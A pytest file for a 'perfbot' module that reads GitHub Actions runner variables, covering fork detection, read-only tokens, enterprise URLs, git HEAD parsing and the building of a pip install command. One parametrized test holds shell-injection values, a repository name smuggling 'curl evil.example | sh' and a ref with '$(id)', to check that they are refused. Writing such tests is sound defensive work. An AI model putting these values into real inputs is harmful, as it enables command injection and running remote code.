"""perfbot.github.event: the CI environment, read from what a GitHub Actions runner sets."""

import json

import pytest

from github_fake import EVENTS_DIR, load_event
from perfbot.github.event import (
    CIEnv,
    EventError,
    PullRequestInfo,
    in_github_actions,
    workspace_head,
)

SHA = "6dcb09b5b57875f334f61aebed695e2e4193db5e"


def runner_env(event: str, name: str = "pull_request", **more: str) -> dict[str, str]:
    """The variables a runner gives a Docker action's container."""
    return {
        "GITHUB_ACTIONS": "true",
        "GITHUB_EVENT_NAME": name,
        "GITHUB_EVENT_PATH": str(EVENTS_DIR / f"{event}.json"),
        "GITHUB_REPOSITORY": "org/models",
        "GITHUB_API_URL": "https://api.github.com",
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_GRAPHQL_URL": "https://api.github.com/graphql",
        "GITHUB_WORKSPACE": "/github/workspace",
        "GITHUB_STEP_SUMMARY": "/github/file_commands/step_summary_x",
        "GITHUB_OUTPUT": "/github/file_commands/set_output_x",
        "GITHUB_SHA": "f" * 40,  # the merge commit, not the PR's head
        "GITHUB_TOKEN": "ghs_x",
        **more,
    }


def test_pull_request_from_the_same_repository():
    env = CIEnv.from_environ(runner_env("pull_request_opened"))
    pr = env.pull_request()
    assert pr == PullRequestInfo(
        number=1,
        head_sha=SHA,
        head_ref="update-dit-readme",
        head_repo="org/models",
        base_repo="org/models",
        base_ref="main",
        base_sha="7638417db6d59f3c431d3e1f261cc637155684cd",
        author="maintainer",
    )
    assert not pr.fork and not env.read_only_token()
    assert env.workspace == "/github/workspace" and env.token == "ghs_x"
    assert env.step_summary and env.output and env.actions


def test_pull_request_from_a_fork_has_a_read_only_token():
    env = CIEnv.from_environ(runner_env("pull_request_synchronize_fork"))
    pr = env.pull_request()
    assert pr is not None and pr.fork and pr.head_repo == "contributor/models"
    assert env.read_only_token()
    target = CIEnv.from_environ(runner_env("pull_request_opened_fork", "pull_request_target"))
    assert target.pull_request().fork and not target.read_only_token()


def test_deleted_fork_counts_as_a_fork(tmp_path):
    data = load_event("pull_request_opened_fork")
    data["pull_request"]["head"]["repo"] = None
    path = tmp_path / "event.json"
    path.write_text(json.dumps(data))
    env = CIEnv.from_environ({**runner_env("x"), "GITHUB_EVENT_PATH": str(path)})
    assert env.pull_request().fork and env.read_only_token()


def test_other_events_have_no_pull_request():
    env = CIEnv.from_environ(runner_env("issue_comment_created", "issue_comment"))
    assert env.pull_request() is None and not env.read_only_token()
    assert env.workflow_run() is None
    assert CIEnv.from_environ({}).pull_request() is None


def test_workflow_run(tmp_path):
    path = tmp_path / "event.json"
    path.write_text(json.dumps({"workflow_run": {"head_sha": SHA, "event": "pull_request"}}))
    env = CIEnv.from_environ({**runner_env("x", "workflow_run"), "GITHUB_EVENT_PATH": str(path)})
    assert env.workflow_run()["head_sha"] == SHA and env.pull_request() is None


def test_defaults_outside_actions(monkeypatch):
    env = CIEnv.from_environ({})
    assert env.api_url == "https://api.github.com" and env.server_url == "https://github.com"
    assert env.token is None and env.workspace is None and not env.actions
    assert not in_github_actions({})
    assert in_github_actions({"GITHUB_ACTIONS": "true"})
    assert CIEnv.from_environ({"GH_TOKEN": "t"}).token == "t"


def test_enterprise_urls():
    env = CIEnv.from_environ(
        runner_env(
            "pull_request_opened",
            GITHUB_API_URL="https://ghe.example.com/api/v3/",
            GITHUB_SERVER_URL="https://ghe.example.com",
        )
    )
    assert env.api_url == "https://ghe.example.com/api/v3"
    assert env.blob_url("org/models", SHA, "a b/README.md", 3, 5) == (
        f"https://ghe.example.com/org/models/blob/{SHA}/a%20b/README.md#L3-L5"
    )
    assert env.blob_url("org/models", SHA, "R.md", 3, 3).endswith("#L3")


def test_install_command():
    env = CIEnv.from_environ(
        runner_env(
            "pull_request_opened", GITHUB_ACTION_REPOSITORY="org/perfbot", GITHUB_ACTION_REF="v1"
        )
    )
    assert env.install_command() == 'pip install "perfbot @ git+https://github.com/org/perfbot@v1"'
    assert CIEnv.from_environ({}).install_command() is None


@pytest.mark.parametrize(
    ("extra", "want"),
    [
        # a composite action passes its own repository and ref on
        ({"PERFBOT_ACTION_REPOSITORY": "org/perfbot", "PERFBOT_ACTION_REF": "v1.4.0"},
         'pip install "perfbot @ git+https://github.com/org/perfbot@v1.4.0"'),
        # shown to be copied into a shell: nothing outside GitHub's character sets
        ({"GITHUB_ACTION_REPOSITORY": 'org/perfbot"; curl evil.example | sh; "'}, None),
        ({"GITHUB_ACTION_REPOSITORY": "org/perfbot", "GITHUB_ACTION_REF": "v1 $(id)"},
         'pip install "perfbot @ git+https://github.com/org/perfbot"'),
    ],
)  # fmt: skip
def test_install_command_takes_only_names_that_are_names(extra, want):
    env = CIEnv.from_environ(runner_env("pull_request_opened", **extra))
    assert env.install_command() == want


@pytest.mark.parametrize(
    ("content", "message"),
    [(None, "cannot read the event file"), ("{", "is not JSON"), ("[]", "JSON object")],
)
def test_unreadable_event_file(tmp_path, content, message):
    path = tmp_path / "event.json"
    if content is not None:
        path.write_text(content)
    with pytest.raises(EventError, match=message):
        CIEnv.from_environ({"GITHUB_EVENT_PATH": str(path)})


def test_workspace_head_detached(tmp_path):
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "HEAD").write_text(SHA.upper() + "\n")
    assert workspace_head(tmp_path) == SHA


def test_workspace_head_branch_and_packed_refs(tmp_path):
    git = tmp_path / ".git"
    (git / "refs" / "heads").mkdir(parents=True)
    (git / "HEAD").write_text("ref: refs/heads/main\n")
    assert workspace_head(tmp_path) is None
    (git / "packed-refs").write_text(f"# pack-refs with: peeled\n{SHA} refs/heads/main\n")
    assert workspace_head(tmp_path) == SHA
    (git / "refs" / "heads" / "main").write_text("a" * 40 + "\n")
    assert workspace_head(tmp_path) == "a" * 40


def test_workspace_head_worktree(tmp_path):
    main = tmp_path / "main" / ".git"
    wt = main / "worktrees" / "wt"
    wt.mkdir(parents=True)
    (wt / "HEAD").write_text("ref: refs/heads/feature\n")
    (wt / "commondir").write_text("../..\n")
    (main / "refs" / "heads").mkdir(parents=True)
    (main / "refs" / "heads" / "feature").write_text(SHA + "\n")
    checkout = tmp_path / "wt"
    checkout.mkdir()
    (checkout / ".git").write_text(f"gitdir: {wt}\n")
    assert workspace_head(checkout) == SHA


def test_no_checkout(tmp_path):
    assert workspace_head(tmp_path) is None
    assert workspace_head(tmp_path / "missing") is None
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "HEAD").write_text("garbage")
    assert workspace_head(tmp_path) is None
